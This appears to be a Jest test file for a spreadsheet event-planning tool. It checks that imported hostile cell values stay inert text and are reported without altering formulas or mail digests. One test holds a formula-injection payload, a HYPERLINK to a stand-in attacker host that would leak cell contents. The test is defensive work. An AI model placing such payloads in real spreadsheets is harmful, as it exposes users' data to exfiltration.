import { type CivilDate, toSerial } from '../../src/domain/civil-date';
import type { Finding } from '../../src/domain/finding';
import type { Host } from '../../src/local/host';
import { enumLabel } from '../../src/workbook/enums';
import { type HostileCell, hostileCells } from '../support/hostile-cells';
import { hourAt, TODAY } from './digest-scene';
import { LATE } from './hostile-events';
import { mailFaults } from './mail-faults';
import { formulasOf, logFaults, savedSheets, type ValueRow, valueRows } from './sheet-faults';
import { ask, INSERT, LEAD, lastRun, loadShipped, newHost, restored, rpc } from './showrunner';

jest.setTimeout(60_000);

const CELLS = hostileCells();
const PEOPLE = ['组别', '姓名', '角色', '邮箱', '接收提醒'];
const TASKS = ['任务', '状态', '负责人', '完成时限', '组', '交付成果', '优先级'];
/** Answers to the insertion that are text or are refused. */
const ANSWERS = ['d0', 'd1', 'startTime', 'currency', 'eventName', 'venue', 'leadName'];
/** A cell takes 50,000 characters, one of them the apostrophe. */
const LONGEST = 49_999;

let saved = '';
let formulas: readonly string[] = [];
let effects = 0;

beforeAll(async () => {
  await loadShipped();
  const host = newHost({ mailQuota: 100_000 });
  ask(host, 'insertPlan', INSERT);
  ask(host, 'turnRemindersOn', {});
  saved = host.save();
  formulas = formulasOf(savedSheets(host));
});

afterAll(() => {
  const roles = PEOPLE.length + TASKS.length + ANSWERS.length;
  process.stdout.write(`hostile cells imported: ${CELLS.length} values, ${roles} roles, effects ${effects}\n`);
});

function nothing(faults: readonly string[]): void {
  effects += faults.length;
  expect(faults.slice(0, 20)).toEqual([]);
}

/** What an import leaves of a text: as much as fits, no half of a character. */
function left({ kept }: HostileCell): string {
  return kept.length > LONGEST ? kept.slice(0, LONGEST).replace(/[\uD800-\uDBFF]$/, '') : kept;
}

/** What is not equal; a long text is not printed. */
function differing(where: string, found: readonly unknown[], wanted: readonly unknown[]): string[] {
  const brief = (cell: unknown): string => String(JSON.stringify(cell)).slice(0, 60);
  return wanted.flatMap((cell, at) => (found[at] === cell ? [] : [`${where}, ${at}: ${brief(found[at])} for ${brief(cell)}`]));
}

function lines(findings: readonly Finding[]): string[] {
  return findings.map(({ code, path }) => `${path} ${code}`).sort();
}

/** Every value in every column of a row, and a faultless row after each. */
function rowsWith(columns: readonly string[], good: (n: number) => string[]): string[][] {
  return [[...columns], ...CELLS.flatMap(({ text }, n) => [columns.map(() => text), good(n)])];
}

/** What must be said of the line of each value: that it was cut in each column, and what of it is not understood. */
function reports(columns: number, codes: (cell: HostileCell) => readonly (string | false)[]): string[] {
  const said = CELLS.flatMap((cell, n) => {
    if (cell.kept === '') return [];
    const cut = Array.from({ length: cell.kept.length > LONGEST ? columns : 0 }, () => 'tooLong');
    return [...cut, ...codes(cell)].flatMap((code) => (code === false ? [] : [`${2 * n + 2} import.${code}`]));
  });
  return said.sort();
}

/** Sends the digests: every good person has one mail, all are inert, the log holds no text, nothing stops. */
function expectDigests(host: Host): void {
  hourAt(host, TODAY, 8);
  expect(lastRun(host).error).toBeNull();
  nothing([...host.outbox.flatMap((mail) => mailFaults(mail, host.url, new Set([LEAD]))), ...logFaults(host)]);
  const good = host.outbox.map(({ to }) => to).filter((to) => /^good\d+@/.test(to));
  expect(good.sort()).toEqual(CELLS.map((_, n) => `good${n}@example.com`).sort());
}

describe('imported people', () => {
  let host: Host;
  let reply: { readonly imported: number; readonly findings: readonly Finding[] };

  beforeAll(() => {
    host = restored(saved);
    const rows = rowsWith(PEOPLE, (n) => ['执行组', `好${n}`, '组员', `good${n}@example.com`, '每日']);
    reply = ask(host, 'importPeople', { plan: null, rows });
  });

  it('hold the text that was given, as text, and the good rows stand beside them', () => {
    const sheets = savedSheets(host);
    const byName = new Map(valueRows(sheets, '团队与分工').map((row) => [row.name, row]));
    const cellsOf = (name: string): unknown[] => {
      const { group, email, role, digest }: Partial<ValueRow> = byName.get(name) ?? {};
      return [group, email, role, digest];
    };
    const faults = CELLS.flatMap((cell, n) => {
      const name = left(cell);
      const beside = differing(`beside ${n}`, cellsOf(`好${n}`), ['执行组', `good${n}@example.com`, '组员', '每日']);
      if (name === '') return beside;
      const words = [enumLabel('role', cell.role ?? 'member', 'zh-CN'), enumLabel('digest', cell.digest ?? 'daily', 'zh-CN')];
      return [...beside, ...differing(`${n}`, cellsOf(name), [name, name, ...words])];
    });
    nothing(faults);
    expect(formulasOf(sheets)).toEqual(formulas);
    // Texts that differ only in blanks around them are one person.
    expect(reply.imported).toBe(new Set(CELLS.map(left).filter((name) => name !== '')).size + CELLS.length);
  });

  it('are reported by line and column, each once', () => {
    const wanted = reports(PEOPLE.length, ({ role, digest, isBadAddress }) => [
      role === null && 'badRole',
      digest === null && 'badDigest',
      isBadAddress && 'badAddress',
    ]);
    expect(lines(reply.findings)).toEqual(wanted);
  });
});

describe('imported tasks', () => {
  let host: Host;
  let findings: readonly Finding[];

  beforeAll(() => {
    host = restored(saved);
    const rows = rowsWith(TASKS, (n) => [`好任务${n}`, '未开始', `good${n}@example.com`, '2026-12-01', '执行组', '文件', '高']);
    findings = ask(host, 'importTasks', { plan: null, rows }).findings;
  });

  it('hold the text that was given, as text, dates as dates, and the good rows stand beside them', () => {
    const sheets = savedSheets(host);
    const found = valueRows(sheets, '任务分解表').filter((row) => row.source === '导入');
    const wanted = CELLS.flatMap((cell, n) => {
      const text = left(cell);
      const good = [`好任务${n}`, '未开始', `good${n}@example.com`, LATE, '执行组', '文件', '高'];
      const words = [enumLabel('status', cell.status ?? 'notStarted', 'zh-CN'), enumLabel('priority', cell.priority ?? 'medium', 'zh-CN')];
      const due = cell.date === null ? text : toSerial(cell.date as CivilDate);
      return text === '' ? [good] : [[text, words[0], text, due, text, text, words[1]], good];
    });
    const cells = found.map((row) => [row.task, row.status, row.owner, row.due, row.group, row.deliverable, row.priority]);
    nothing(wanted.flatMap((row, at) => differing(`${at}`, cells[at] ?? [], row)));
    expect(cells).toHaveLength(wanted.length);
    expect(formulasOf(sheets)).toEqual(formulas);
  });

  it('are reported by line and column, each once', () => {
    const wanted = reports(TASKS.length, ({ status, priority, date }) => [
      status === null && 'badStatus',
      priority === null && 'badPriority',
      date === null && 'badDate',
    ]);
    expect(lines(findings)).toEqual(wanted);
  });

  it('are mailed as if the bad ones were not there', () => {
    expectDigests(host);
    const texts = new Map(host.outbox.map(({ to, text }) => [to, text]));
    const missing = CELLS.flatMap((_, n) => (texts.get(`good${n}@example.com`)?.includes(`\n1. 好任务${n}\n`) ? [] : [`${n}`]));
    expect(missing).toEqual([]);
  });
});

describe('answers to the insertion', () => {
  it('that are no date, time or currency are refused by name, and nothing is written', () => {
    const host = restored(saved);
    const before = savedSheets(host);
    const faults = CELLS.flatMap(({ text, date }) => {
      const answers = Object.fromEntries(ANSWERS.map((name) => [name, text]));
      const reply = rpc(host, 'previewInsert', { ...INSERT, ...answers });
      const codes = reply.ok ? [] : reply.findings.map(({ code, path }) => `${code} ${path}`);
      const wanted = [
        ...(date === null ? ['insert.badDate d0', 'insert.badDate d1'] : []),
        'insert.badTime startTime',
        ...(/^[A-Za-z]{3}$/.test(text) ? [] : ['insert.badCurrency currency']),
      ];
      return differing(text.slice(0, 40), codes, text.length > 300 ? ['rpc.badRequest d1'] : wanted);
    });
    nothing(faults);
    expect(savedSheets(host)).toEqual(before);
  });

  it('that are text are text on every sheet', () => {
    const host = newHost();
    const [eventName, venue, leadName] = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '1/2/3', '+86 138 0013 8000'];
    ask(host, 'insertPlan', { ...INSERT, eventName, venue, leadName });
    const sheets = savedSheets(host);
    expect(formulasOf(sheets)).toHaveLength(formulas.length);
    const titlesWith = (text: string): string[] =>
      sheets.flatMap(({ title, rows }) => (rows.some((row) => row.some((cell) => cell?.v === text)) ? [title] : []));
    expect(titlesWith(eventName)).toEqual(expect.arrayContaining(['设置']));
    expect(titlesWith(venue)).toEqual(expect.arrayContaining(['活动策划总表']));
    expect(titlesWith(leadName)).toEqual(expect.arrayContaining(['团队与分工']));
  });
});
